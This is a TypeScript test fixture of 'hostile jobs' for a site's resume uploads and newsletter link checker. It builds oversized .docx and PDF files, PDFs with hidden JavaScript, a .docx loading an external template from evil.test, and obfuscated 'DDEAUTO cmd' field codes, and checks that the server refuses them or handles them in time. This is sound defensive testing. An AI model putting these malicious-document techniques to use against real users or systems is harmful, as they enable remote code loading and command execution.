import { setTimeout as delay } from 'node:timers/promises'
import { resumeChunkBytes, resumePaths } from '#contract/hiring/resumes.ts'
import type { CampaignRecord } from '#contract/newsletter/campaigns.staff.schema.ts'
import { campaignStaffPaths } from '#contract/newsletter/campaigns.staff.ts'
import { fillPath } from '#contract/paths.ts'
import { signedInCookie } from '#server/auth/test-staff.ts'
import type { TestDatabase } from '#server/db/test-database.ts'
import { makeDocx, makePdf, packedObjects } from '#server/files/test-documents.ts'
import { slowPdfs } from '#server/files/test-slow-pdfs.ts'

/** Work that somebody gives the site in bad faith. Says whether it was answered as promised. */
export interface HostileJob {
  name: string
  run(origin: string, address: string): Promise<boolean>
}

const megabyte = 1024 * 1024
const filled = (bytes: number, unit: string) => unit.repeat(Math.floor(bytes / unit.length))
const inWord = (bytes: number, unit: string) =>
  makeDocx({ more: [{ name: 'word/a.xml', content: filled(bytes, unit) }] })
const script = '8 0 << /S /JavaScript /JS (1) >>'
const template = '<Relationship Type="x/attachedTemplate" Target="https://evil.test" TargetMode="&#69;xternal"/>'
const piece = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`

/** Made to take long: kept or refused, but in time. */
const slow: Record<string, Buffer> = {
  '40 KB of < .docx': inWord(40 * 1024, '<'),
  '100 KB of < .docx': inWord(100 * 1024, '<'),
  '48 MB of < .docx': inWord(48 * megabyte, '<'),
  '48 MB of elements .docx': inWord(48 * megabyte, '<a/>'),
  '48 MB of fields .docx': inWord(48 * megabyte, '<w:instrText>x</w:instrText>'),
  '48 MB of unfinished fields .docx': inWord(48 * megabyte, '<w:instrText '),
  ...slowPdfs,
}
/** Run or load something: refused. */
const active: Record<string, Buffer> = {
  'script behind a comment .pdf': makePdf({
    objects: [packedObjects(script, { dictionary: '% stream\n/Filter /FlateDecode' })],
  }),
  'script far away .pdf': makePdf({
    objects: [packedObjects(script, { dictionary: `/Filter /FlateDecode /A (${filled(5_000, 'x')})` })],
  }),
  'script without a type .pdf': makePdf({ objects: [packedObjects(script, { type: '' })] }),
  'template in numbers .docx': makeDocx({ more: [{ name: 'word/_rels/document.xml.rels', content: template }] }),
  'program in pieces .docx': makeDocx({ body: `<w:p>${piece('DDE')}${piece('AUTO cmd')}</w:p>` }),
  'program in numbers .docx': makeDocx({ body: '<w:fldSimple w:instr="&#68;DEAUTO cmd"/>' }),
}

/** The status of the last chunk. Clients that are told to retry do. */
async function upload(origin: string, address: string, name: string, file: Buffer): Promise<number> {
  const headers = { origin, 'x-forwarded-for': address }
  const begun = await fetch(origin + resumePaths.begin, {
    method: 'POST',
    headers: { ...headers, 'content-type': 'application/json' },
    body: JSON.stringify({ name, size: file.length }),
  })
  const { id } = (await begun.json()) as { id: string }
  for (let number = 0; ; ) {
    const chunk = file.subarray(number * resumeChunkBytes, (number + 1) * resumeChunkBytes)
    const { status } = await fetch(origin + fillPath(resumePaths.chunk, { id, number: String(number) }), {
      method: 'PUT',
      headers: { ...headers, 'content-type': 'application/octet-stream' },
      body: new Uint8Array(chunk),
    })
    if (status === 503) await delay(500)
    else if (status !== 200 || ++number * resumeChunkBytes >= file.length) return status
  }
}

const uploadJobs = (files: Record<string, Buffer>, isKept: (status: number) => boolean): HostileJob[] =>
  Object.entries(files).map(([title, file]) => ({
    name: title,
    run: async (origin, address) =>
      isKept(await upload(origin, address, title.endsWith('.pdf') ? 'cv.pdf' : 'cv.docx', file)),
  }))

/** An editor has a campaign of a thousand links checked, four times at once. */
async function campaignJob(database: TestDatabase): Promise<HostileJob> {
  const cookie = await signedInCookie(database, { role: 'editor', email: 'editor@staff.test' })
  return {
    name: 'campaign of 1,000 links',
    async run(origin, address) {
      const headers = { cookie, origin, 'x-forwarded-for': address, 'content-type': 'application/json' }
      const send = async (method: string, path: string, body?: unknown) =>
        fetch(origin + path, { method, headers, ...(body !== undefined && { body: JSON.stringify(body) }) })
      const begun = await send('POST', campaignStaffPaths.all, { postId: null })
      const { id, version } = (await begun.json()) as CampaignRecord
      const links = Array.from({ length: 1_000 }, (_, number) => `[a](/blog?${number})`).join(' ')
      const draft = { version, subject: 'Links', preheader: '', body: links, isPublic: false }
      const saved = await send('PUT', fillPath(campaignStaffPaths.byId, { id: String(id) }), draft)
      const check = fillPath(campaignStaffPaths.check, { id: String(id) })
      const checks = await Promise.all(Array.from({ length: 4 }, () => send('GET', check)))
      return saved.ok && checks.every(({ status }) => status === 200 || status === 429)
    },
  }
}

/** Everything that ever stopped the site for others. Add to it what does. */
export const hostileJobs = async (database: TestDatabase): Promise<HostileJob[]> => [
  ...uploadJobs(slow, (status) => status === 200 || status === 400),
  ...uploadJobs(active, (status) => status === 400),
  await campaignJob(database),
]
